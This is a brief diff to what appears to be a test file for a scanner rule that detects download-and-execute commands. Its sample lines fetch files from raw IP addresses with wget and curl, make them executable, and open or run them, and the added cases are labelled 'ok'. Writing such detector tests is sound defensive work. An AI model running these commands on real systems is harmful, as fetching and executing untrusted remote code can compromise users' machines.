@@ -13,3 +13,10 @@ python3 plot.py data.csv
 wget http://198.51.100.7/model.bin -O model.bin
 chmod +x run.sh
 ./run.sh model.bin
+
+# ok: skillgate.download-exec.bad-host-drop
+curl -O http://198.51.100.7/report.pdf
+open report.pdf
+
+# ok: skillgate.download-exec.bad-host-drop
+curl -fsS http://100.101.102.103/agent -o agent && chmod +x agent
